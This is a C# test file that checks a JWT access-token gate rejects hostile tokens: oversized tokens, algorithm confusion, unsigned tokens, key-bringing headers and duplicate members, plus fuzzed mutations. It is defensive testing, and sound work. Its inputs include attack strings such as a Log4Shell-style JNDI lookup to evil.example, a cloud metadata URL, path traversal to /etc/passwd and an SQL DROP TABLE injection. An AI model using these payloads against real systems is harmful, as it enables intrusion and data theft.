using System.Buffers.Text;
using System.Security.Cryptography;
using System.Text;
using CsCheck;
using Parley.Access.Tokens;

namespace Parley.Tests.Access;

public sealed class HostileTokenTests
{
    private const string Seed = "0N0XIzNsQ0O2";

    private static bool IsLong => Environment.GetEnvironmentVariable("PARLEY_TEST_LONG") == "1";

    private readonly HeldClock _clock = new();

    private string Claims => HandMade.Claims(_clock.GetUtcNow());

    [Theory]
    [InlineData(16 * 1024 + 1)]
    [InlineData(64 * 1024)]
    [InlineData(10 * 1024 * 1024)]
    public async Task A_huge_token_is_refused_unread(int bytes)
    {
        using var gate = await Gate.OpenAsync(_clock);

        Assert.Equal(
            "A token has at most 16384 bytes.",
            await gate.RejectAsync(new string('A', bytes))
        );
    }

    [Fact]
    public async Task The_largest_token_is_still_read()
    {
        using var gate = await Gate.OpenAsync(_clock);
        var bare = HandMade.Token(HandMade.Claims(_clock.GetUtcNow(), ("pad", "\"\"")));
        var room = (16 * 1024 - bare.Length) * 3 / 4;
        string Padded(int more) =>
            HandMade.Token(
                HandMade.Claims(_clock.GetUtcNow(), ("pad", $"\"{new string('x', more)}\""))
            );

        Assert.InRange(Padded(room).Length, 16 * 1024 - 3, 16 * 1024);
        _ = await gate.AcceptAsync(Padded(room));
        Assert.Equal("A token has at most 16384 bytes.", await gate.RejectAsync(Padded(room + 4)));
    }

    [Theory]
    [InlineData("none")]
    [InlineData("None")]
    [InlineData("HS256")]
    [InlineData("RS384")]
    [InlineData("PS256")]
    [InlineData("ES384")]
    [InlineData("rs256")]
    [InlineData("")]
    [InlineData("RS256\\u0000")]
    public async Task No_other_algorithm_is_even_tried(string algorithm)
    {
        using var gate = await Gate.OpenAsync(_clock);

        Assert.Equal(
            "A token is signed with RS256 or ES256.",
            await gate.RejectAsync(HandMade.Token(Claims, $$"""{"alg":"{{algorithm}}"}"""))
        );
    }

    [Fact]
    public async Task A_public_key_is_no_HMAC_secret()
    {
        using var gate = await Gate.OpenAsync(_clock);
        var secrets = new[]
        {
            HandMade.Rsa.ExportSubjectPublicKeyInfo(),
            Encoding.ASCII.GetBytes(HandMade.Rsa.ExportSubjectPublicKeyInfoPem()),
            Encoding.ASCII.GetBytes(HandMade.Rsa.ExportSubjectPublicKeyInfoPem() + "\n"),
        };
        foreach (var secret in secrets)
        {
            foreach (var algorithm in new[] { "HS256", "RS256" })
            {
                var signed =
                    HandMade.Encoded($$"""{"alg":"{{algorithm}}"}""")
                    + "."
                    + HandMade.Encoded(Claims);
                var mac = HMACSHA256.HashData(secret, Encoding.ASCII.GetBytes(signed));

                var token = $"{signed}.{Base64Url.EncodeToString(mac)}";

                Assert.NotEmpty(await gate.RejectAsync(token));
            }
        }
    }

    [Theory]
    [InlineData(HandMade.Header, ".", "A token is signed.")]
    [InlineData(
        HandMade.Header,
        ".AAAA",
        "The token is not signed with a key that this server knows."
    )]
    public async Task An_unsigned_token_is_refused(string header, string tail, string reason)
    {
        using var gate = await Gate.OpenAsync(_clock);

        var token = $"{HandMade.Encoded(header)}.{HandMade.Encoded(Claims)}{tail}";

        Assert.Equal(reason, await gate.RejectAsync(token));
    }

    [Theory]
    [InlineData(
        "crit",
        """["exp"]""",
        "A token asks for no extension of the signature (crit, b64)."
    )]
    [InlineData("b64", "false", "A token asks for no extension of the signature (crit, b64).")]
    [InlineData("jwk", "{}", "A token does not bring its own key (jwk, jku, x5u, x5c).")]
    [InlineData(
        "jku",
        "\"https://evil.example\"",
        "A token does not bring its own key (jwk, jku, x5u, x5c)."
    )]
    [InlineData(
        "x5u",
        "\"https://evil.example\"",
        "A token does not bring its own key (jwk, jku, x5u, x5c)."
    )]
    [InlineData("x5c", "[]", "A token does not bring its own key (jwk, jku, x5u, x5c).")]
    [InlineData("typ", "\"dpop+jwt\"", "A token's type, if it has one, is JWT or at+jwt.")]
    [InlineData("typ", "\"\"", "A token's type, if it has one, is JWT or at+jwt.")]
    [InlineData("typ", "null", "A token's type, if it has one, is JWT or at+jwt.")]
    [InlineData("kid", "7", "A key id is a text of at most 256 characters.")]
    [InlineData("alg", "\"RS256\"", "A token's header is a JSON object with no member twice.")]
    [InlineData(
        "\\u0061lg",
        "\"RS256\"",
        "A token's header is a JSON object with no member twice."
    )]
    public async Task A_header_that_asks_for_more_is_refused(
        string name,
        string json,
        string reason
    )
    {
        using var gate = await Gate.OpenAsync(_clock);
        var header = $$"""{"alg":"RS256","{{name}}":{{json}}}""";

        Assert.Equal(reason, await gate.RejectAsync(HandMade.Token(Claims, header)));
    }

    [Theory]
    [InlineData("../../../../etc/passwd")]
    [InlineData("' OR 1=1; DROP TABLE keys; --")]
    [InlineData("\\u0000\\u0007\\u001b[2J")]
    [InlineData("http://169.254.169.254/latest/meta-data")]
    [InlineData("${jndi:ldap://evil.example/a}")]
    public async Task A_hostile_key_id_is_only_a_name(string id)
    {
        using var gate = await Gate.OpenAsync(
            _clock,
            new Parley.Access.Keys.IssuerSettings(null, [Gate.Held(HandMade.Rsa, "real")])
        );
        var header = $$"""{"alg":"RS256","kid":"{{id}}"}""";

        Assert.Equal(
            "The token is not signed with a key that this server knows.",
            await gate.RejectAsync(HandMade.Token(Claims, header))
        );
    }

    [Fact]
    public async Task Members_are_named_once_at_any_depth()
    {
        using var gate = await Gate.OpenAsync(_clock);
        string[] doubled =
        [
            Claims.Replace("{", """{"sub":"somebody-else",""", StringComparison.Ordinal),
            Claims.Replace("{", """{"\u0073ub":"somebody-else",""", StringComparison.Ordinal),
            Claims.Replace("{", """{"a":{"b":1,"b":2},""", StringComparison.Ordinal),
            Claims.Replace("{", """{"a":[{"b":1,"\u0062":2}],""", StringComparison.Ordinal),
        ];
        foreach (var payload in doubled)
        {
            Assert.Equal(
                "A token's payload is a JSON object with no member twice.",
                await gate.RejectAsync(HandMade.Token(payload))
            );
        }
    }

    public static TheoryData<byte[]> NoJsonObjects { get; } =
        new()
        {
            Array.Empty<byte>(),
            "foo"u8.ToArray(),
            "[]"u8.ToArray(),
            "null"u8.ToArray(),
            "{\"sub\":\"a\"} {}"u8.ToArray(),
            "{\"sub\":\"a\",}"u8.ToArray(),
            "{/* why */}"u8.ToArray(),
            "{'sub':'a'}"u8.ToArray(),
            "{\"sub\":\"\xff\"}".Select(c => (byte)c).ToArray(),
            "{\"\\ud800\":1}"u8.ToArray(),
            "{\"\\ud800\":1,\"\\ud800\":1}"u8.ToArray(),
            "\u00ef\u00bb\u00bf{}".Select(c => (byte)c).ToArray(),
            Encoding.Unicode.GetBytes("{}"),
            Encoding.ASCII.GetBytes(
                $"{{\"a\":{new string('[', 8000 / 2)}{new string(']', 8000 / 2)}}}"
            ),
            Encoding.ASCII.GetBytes("{\"a\":[[[[[[[[]]]]]]]]}"),
        };

    [Theory]
    [MemberData(nameof(NoJsonObjects))]
    public async Task What_is_no_plain_object_is_refused_though_signed(byte[] bytes)
    {
        using var gate = await Gate.OpenAsync(_clock);
        var header = Encoding.ASCII.GetBytes(HandMade.Header);
        var payload = Encoding.ASCII.GetBytes(Claims);

        Assert.NotEmpty(await gate.RejectAsync(HandMade.Token(bytes, header, HandMade.Rsa)));
        Assert.NotEmpty(await gate.RejectAsync(HandMade.Token(payload, bytes, HandMade.Rsa)));
    }

    [Fact]
    public async Task A_signature_has_one_spelling()
    {
        using var gate = await Gate.OpenAsync(_clock);
        var token = HandMade.Token(Claims);
        const string letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
        var same = letters[letters.IndexOf(token[^1]) | 1];

        Assert.Equal(
            "A token's parts are written in base64url, without padding.",
            await gate.RejectAsync(token[..^1] + same)
        );
        Assert.NotEmpty(await gate.RejectAsync(token + "="));
        Assert.NotEmpty(await gate.RejectAsync(token[..^1]));
        Assert.NotEmpty(await gate.RejectAsync(token[..^2]));
    }

    [Fact]
    public async Task A_changed_token_is_never_accepted()
    {
        using var gate = await Gate.OpenAsync(_clock);
        var token = HandMade.Token(Claims);
        _ = await gate.AcceptAsync(token);
        const string letters =
            "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_.=+/ \n\0é";
        var letter = Gen.Int[0, letters.Length - 1].Select(at => letters[at]);
        var change = Gen.Select(Gen.Int[0, 3], Gen.Int[0, token.Length - 1], letter);
        var changed = change.Array[1, 3].Select(changes => changes.Aggregate(token, Changed));

        // More spaces before it are no change: they belong to the header (RFC 6750).
        await changed
            .Where(text => text.TrimStart(' ') != token)
            .SampleAsync(
                async text => await gate.CheckAsync($"Bearer {text}") is TokenAnswer.Rejected,
                seed: Seed,
                iter: IsLong ? 200_000 : 4_000,
                threads: 1
            );
    }

    [Fact]
    public async Task Whatever_an_issuer_signs_is_answered_and_never_thrown()
    {
        using var gate = await Gate.OpenAsync(_clock);
        var header = Encoding.ASCII.GetBytes(HandMade.Header);
        var payload = Encoding.UTF8.GetBytes(Claims);
        var bytes = Damaged(payload);
        var heads = Gen.OneOf(Gen.Const(header), Damaged(header));

        await Gen.Select(bytes, heads)
            .SampleAsync(
                async (changed, head) =>
                    await gate.CheckAsync($"Bearer {HandMade.Token(changed, head, HandMade.Rsa)}")
                        is TokenAnswer.Accepted
                            or TokenAnswer.Rejected,
                seed: Seed,
                iter: IsLong ? 20_000 : 300,
                threads: 1
            );
    }

    private static string Changed(string text, (int Kind, int At, char Letter) change)
    {
        var at = Math.Min(change.At, text.Length);
        return change.Kind switch
        {
            0 => text.Insert(at, $"{change.Letter}"),
            1 => at < text.Length ? text.Remove(at, 1) : text,
            2 => text[..at],
            _ => at < text.Length ? text.Remove(at, 1).Insert(at, $"{change.Letter}") : text,
        };
    }

    private static Gen<byte[]> Damaged(byte[] bytes) =>
        Gen.Select(Gen.Int[0, bytes.Length - 1], Gen.Byte)
            .Array[0, 4]
            .Select(changes => Written(bytes, changes));

    private static byte[] Written(byte[] bytes, (int At, byte Value)[] changes)
    {
        var copy = bytes.ToArray();
        foreach (var (at, value) in changes)
        {
            copy[at] = value;
        }
        return copy;
    }
}
